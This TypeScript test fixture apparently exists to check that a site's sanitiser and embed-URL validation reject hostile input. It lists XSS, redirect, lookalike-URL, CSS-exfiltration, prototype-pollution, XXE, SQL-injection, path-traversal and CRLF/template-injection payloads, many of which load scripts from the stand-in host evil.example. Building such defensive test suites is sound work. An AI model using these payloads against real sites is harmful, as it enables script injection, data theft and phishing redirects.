/**
 * Hostile texts by class. No page may run these texts, link to `hostileHost` or request anything
 * from it. Scripts in the texts set `top.__xss` or open a dialog.
 */

/** RFC 2606 reserves this domain, so it never resolves. */
export const hostileHost = 'evil.example';

/** Executed payloads set this property of the top window. */
export const marker = '__xss';

const run = `top.${marker}=1`;
const encoded = encodeURIComponent(run);
const entities = Array.from('javascript:').map((letter) => `&#${letter.charCodeAt(0)};`);
const hexEntities = Array.from('javascript:').map((l) => `&#x${l.charCodeAt(0).toString(16)}`);
const escapes = Array.from('javascript').map((l) => `\\u00${l.charCodeAt(0).toString(16)}`);
const base64 = Buffer.from(`<script>${run}</script>`).toString('base64');

/** Browsers complete each of these texts to a URL of `hostileHost`. */
const hostileAddresses = [
  `//${hostileHost}`,
  `///${hostileHost}`,
  `////${hostileHost}/%2f..`,
  `/\\${hostileHost}`,
  `\\/${hostileHost}`,
  `\\\\${hostileHost}`,
  `/\\/${hostileHost}`,
  `/\t/${hostileHost}`,
  `/\n/${hostileHost}`,
  `/\r\n/${hostileHost}`,
  `\t//${hostileHost}`,
  `\u0001//${hostileHost}`,
  `https:${hostileHost}`,
  `http:${hostileHost}`,
  `https:/${hostileHost}`,
  `https:\\\\${hostileHost}`,
  `hTTps:\\${hostileHost}`,
  `ht\ttps://${hostileHost}`,
  `https://localhost@${hostileHost}/`,
  `https://localhost:80@${hostileHost}/`,
  `https://${hostileHost}#@localhost/`,
  `https://${hostileHost}\\@localhost/`,
  `https://${hostileHost}%00.localhost/`,
  `https://localhost.${hostileHost}/`,
  `//localhost%2f@${hostileHost}/`,
  `/.//${hostileHost}`,
  `/..//${hostileHost}/%2e%2e`,
  `//${hostileHost}%2f%2e%2e`,
  `/%5c${hostileHost}`,
  `/%09/${hostileHost}`,
  `//ｅvil。example`,
  `?next=//${hostileHost}`,
  `ftp://${hostileHost}/`,
];

const scriptAddresses = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  ` javascript:${run}`,
  `\u0001javascript:${run}`,
  `\u00a0javascript:${run}`,
  `\u2028javascript:${run}`,
  `\ufeffjavascript:${run}`,
  `java\nscript:${run}`,
  `java\r\nscript:${run}`,
  `java\tscript:${run}`,
  `java\0script:${run}`,
  `javascript\t:${run}`,
  `javascript&colon;${run}`,
  `javascript&#58;${run}`,
  `java&Tab;script:${run}`,
  `java&NewLine;script:${run}`,
  `${entities.join('')}${run}`,
  `${hexEntities.join('')}${run}`,
  `${escapes.join('')}:${run}`,
  `javascript%3A${encoded}`,
  `%6a%61vascript:${run}`,
  `javascript:%0a${encoded}`,
  `javascript://%0a${run}`,
  `javascript://${hostileHost}/%0a${run}`,
  `javascript:/*--></title></style></textarea></script><svg onload=${run}>*/${run}`,
  `javascript:void(${run})//https://localhost/media/`,
  `jav\u00adascript:${run}`,
  `ｊａｖａｓｃｒｉｐｔ:${run}`,
  `feed:javascript:${run}`,
  `view-source:javascript:${run}`,
  `jar:javascript:${run}!/`,
  `livescript:${run}`,
  `mocha:${run}`,
  `vbscript:MsgBox(1)`,
  `VbScRiPt:MsgBox(1)`,
  `data:text/html,<script>${run}</script>`,
  `data:text/html;base64,${base64}`,
  `DATA:text/html;charset=utf-8,%3Cscript%3E${encoded}%3C/script%3E`,
  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"/>`,
  `data:application/xhtml+xml,<html xmlns="http://www.w3.org/1999/xhtml"><script>${run}</script></html>`,
  `data:,${run}`,
  `blob:https://localhost/${run}`,
  `filesystem:https://localhost/temporary/x.html`,
  `about:blank#${run}`,
  `file:///etc/passwd`,
  `ws://${hostileHost}/`,
  `mailto:x@${hostileHost}?bcc=y@${hostileHost}&body="><script>${run}</script>`,
  `tel:"><script>${run}</script>`,
];

const elements = [
  `<script>${run}</script>`,
  `<ScRiPt >${run}</sCrIpT >`,
  `<<script>${run}//<</script>`,
  `<script src=//${hostileHost}/x.js></script>`,
  `<script type=module>import "//${hostileHost}/x.mjs"</script>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<img src=x onerror=${run}>`,
  `<img/src=x/onerror=${run}>`,
  `<img src=//${hostileHost}/x.png>`,
  `<img srcset="//${hostileHost}/x.png 1x, x 2x" onload=${run}>`,
  `<img """><script>${run}</script>">`,
  `<svg onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><a xlink:href="javascript:${run}"><text y=20>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>${run}</script></svg>#x"/>`,
  `<svg><foreignObject><iframe srcdoc="<script>${run}</script>"></iframe></foreignObject></svg>`,
  `<math href="javascript:${run}">x</math>`,
  `<iframe src=javascript:${run}></iframe>`,
  `<iframe srcdoc="<script>${run}</script>"></iframe>`,
  `<object data="javascript:${run}"></object>`,
  `<embed src=//${hostileHost}/x.swf>`,
  `<video src=x onerror=${run}></video>`,
  `<body onload=${run}>`,
  `<input autofocus onfocus=${run}>`,
  `<details open ontoggle=${run}>x</details>`,
  `<div style="animation:x" onanimationstart=${run}><style>@keyframes x{}</style>`,
  `<link rel=stylesheet href=//${hostileHost}/x.css>`,
  `<link rel=preconnect href=//${hostileHost}>`,
  `<meta http-equiv=refresh content="0;url=//${hostileHost}">`,
  `<meta http-equiv=set-cookie content="gdprConsent=true">`,
  `<base href=//${hostileHost}/>`,
  `<form action=//${hostileHost}><input name=q></form>`,
  `<form><button formaction=javascript:${run}>x</button></form>`,
  `<a href="javascript:${run}">x</a>`,
  `<a href=//${hostileHost} ping=//${hostileHost}/ping>x</a>`,
  `<template shadowrootmode=open><script>${run}</script></template>`,
];

const breakouts = [
  `"><script>${run}</script>`,
  `'><script>${run}</script>`,
  `" onmouseover="${run}`,
  `" autofocus onfocus="${run}" x="`,
  `x onfocus=${run} autofocus`,
  `\` onerror=\`${run}`,
  `"/><img src=x onerror=${run}>`,
  `</title><script>${run}</script>`,
  `</style><script>${run}</script>`,
  `</script><script>${run}</script>`,
  `</script ><img src=x onerror=${run}>`,
  `</SCRIPT\t/x><svg onload=${run}>`,
  `<!--<script>${run}`,
  `<!-- --!><img src=x onerror=${run}>`,
  `--><script>${run}</script>`,
  `<!--><img src=x onerror=${run}>`,
  `<![CDATA[<script>${run}</script>]]>`,
  `]]><script>${run}</script>`,
  `<?xml-stylesheet href="javascript:${run}"?>`,
  `<?php ${run} ?>`,
  `<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>`,
  `</plaintext><plaintext>`,
  `</body></html><script>${run}</script>`,
  `";${run};//`,
  `\\";${run};//`,
  `\${${run}}`,
  `\`;${run};//`,
  `"}]};${run};//`,
  `{"@type":"Thing"}</script><script>${run}</script>`,
  `\u2028${run}\u2029`,
  `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `&amp;lt;script&amp;gt;${run}&amp;lt;/script&amp;gt;`,
  `&#60;img src=x onerror=${run}&#62;`,
  `&quot;&gt;&lt;svg onload=${run}&gt;`,
  `%3Cscript%3E${encoded}%3C/script%3E`,
  `＜script＞${run}＜/script＞`,
  `\u0000<script>${run}</script>`,
  `<scr\u0000ipt>${run}</script>`,
  `\ufeff<script>${run}</script>`,
  `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
];

const mutations = [
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<svg></p><style><a id="</style><img src=x onerror=${run}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${run}>`,
  `<svg><style><img src="</style><img src=x onerror=${run}>">`,
  `<listing>&lt;img src=x onerror=${run}&gt;</listing>`,
  `<xmp><p title="</xmp><svg/onload=${run}>">`,
  `<textarea><p title="</textarea><img src=x onerror=${run}>">`,
  `<title><p title="</title><img src=x onerror=${run}>">`,
  `<table><td><svg><desc><td></desc><img src=x onerror=${run}></svg>`,
  `<select><template><img src=x onerror=${run}></template></select>`,
];

const styles = [
  `x:expression(${run})`,
  `x;background:url(//${hostileHost}/css)`,
  `url("javascript:${run}")`,
  `url(//${hostileHost}/css)`,
  `'); background: url('//${hostileHost}/css`,
  `}*{background:url(//${hostileHost}/css)}`,
  `@import "//${hostileHost}/x.css";`,
  `<style>*{background:url(//${hostileHost}/css)}</style>`,
  `<style>@import'//${hostileHost}/x.css';</style>`,
  `<p style="background:url(//${hostileHost}/css)">x`,
  `-moz-binding:url(//${hostileHost}/x.xml#x)`,
  `\\3c style\\3e`,
];

const srcsets = [
  `x.jpg 1x, //${hostileHost}/x.jpg 2x`,
  `x.jpg,//${hostileHost}/x.jpg`,
  `x.jpg 320w, javascript:${run} 640w`,
];

const names = [
  '__proto__',
  'constructor',
  'prototype',
  'constructor.prototype',
  'toString',
  'hasOwnProperty',
  `__proto__[${marker}]=1`,
  `constructor[prototype][${marker}]=1`,
  `{"__proto__":{"${marker}":1}}`,
  `<a id=${marker}></a>`,
  `<img name=getElementById>`,
  `<form id=content><input name=children>`,
  `<a id=___loader><a id=___loader name=enqueue>`,
  `<img name=currentScript><img name=cookie>`,
  `<iframe name=${marker} src=about:blank></iframe>`,
];

const formats = [
  `{${marker}}`,
  `{count, plural, one {<b>#</b>} other {${run}}}`,
  `{email}`,
  `'{'<b>{0}</b>`,
  `<b>{title}</b>`,
  `{{constructor.constructor('${run}')()}}`,
  `\${7*7}#{7*7}<%= 7*7 %>`,
  `%s%n%x`,
  `YEAR`,
  `x\r\nSet-Cookie: ${marker}=1\r\n\r\n<script>${run}</script>`,
  `x%0d%0aLocation:%20//${hostileHost}`,
  `x\r\nBcc: x@${hostileHost}`,
  `x\nEND:VEVENT\nBEGIN:VEVENT\nUID:evil\nURL:https://${hostileHost}/`,
  `x\r\nATTACH:https://${hostileHost}/x.exe`,
  `x\u0085ATTENDEE:mailto:x@${hostileHost}`,
  `\\nBEGIN:VALARM\\nACTION:AUDIO`,
  `"]]&q=[[any(document.type,["article"`,
  `"){__schema{types{name}}}#`,
  `' OR 1=1 --`,
  `../../../../etc/passwd`,
  `..\\..\\windows\\win.ini`,
  `$(${run})`,
  `;/bin/true|x`,
];

const polyglots = [
  `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${run} )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${run}//>\\x3e`,
  `'">><marquee><img src=x onerror=${run}></marquee>"></plaintext\\></|\\><plaintext/onmouseover=${run}><script>${run}</script>@gmail.com<isindex formaction=javascript:${run} type=submit>'-->"></script>`,
  `" onclick=${run}//<button ' onclick=${run}//> */ ${run}//`,
  `-->'"/></sCript><svG x=">" onload=(${run})>`,
];

export const payloadClasses = {
  hostileAddresses,
  scriptAddresses,
  elements,
  breakouts,
  mutations,
  styles,
  srcsets,
  names,
  formats,
  polyglots,
} as const;

export const payloads: readonly string[] = Object.values(payloadClasses).flat();

/** A few payloads of each class, for slow checks. */
export const fewPayloads: readonly string[] = Object.values(payloadClasses).flatMap((all) =>
  [0, 0.5].map((share) => all[Math.floor(all.length * share)] ?? ''),
);

const path = (payload: string) => encodeURIComponent(payload);

/** Returns URLs of every provider's embeds, and URLs that look similar. */
export function embedAddresses(payload: string): string[] {
  return [
    payload,
    `https://www.youtube.com/watch?v=${path(payload)}`,
    `https://www.youtube.com/watch?v=aBc-12_45Xz&t=${path(payload)}&list=${path(payload)}`,
    `https://www.youtube.com/playlist?list=${path(payload)}`,
    `https://youtu.be/${payload}`,
    `https://vimeo.com/76979871/${payload}`,
    `https://vimeo.com/76979871?h=${path(payload)}`,
    `https://vimeo.com/${payload}`,
    `https://www.facebook.com/${payload}`,
    `https://www.facebook.com/videos/${path(payload)}`,
    `https://www.instagram.com/p/${payload}`,
    `https://x.com/${payload}`,
    `https://twitter.com/x/status/${path(payload)}`,
  ];
}

/** Hosts that look like a provider's host, or are invalid. */
export const lookalikes: readonly string[] = [
  `https://youtube.com.${hostileHost}/watch?v=aBc-12_45Xz`,
  `https://${hostileHost}/youtube.com/watch?v=aBc-12_45Xz`,
  `https://${hostileHost}\\.youtube.com/watch?v=aBc-12_45Xz`,
  `https://${hostileHost}#.youtube.com/watch?v=aBc-12_45Xz`,
  `https://${hostileHost}?.youtube.com/watch?v=aBc-12_45Xz`,
  `https://youtube.com@${hostileHost}/watch?v=aBc-12_45Xz`,
  `https://www.youtube.com:80@${hostileHost}/watch?v=aBc-12_45Xz`,
  `https:${hostileHost}//youtube.com/`,
  `https://notyoutube.com/watch?v=aBc-12_45Xz`,
  `https://xn--a.youtube.com/watch?v=aBc-12_45Xz`,
  `https://xn--.x.com/x/status/1`,
  `https://constructor/`,
];
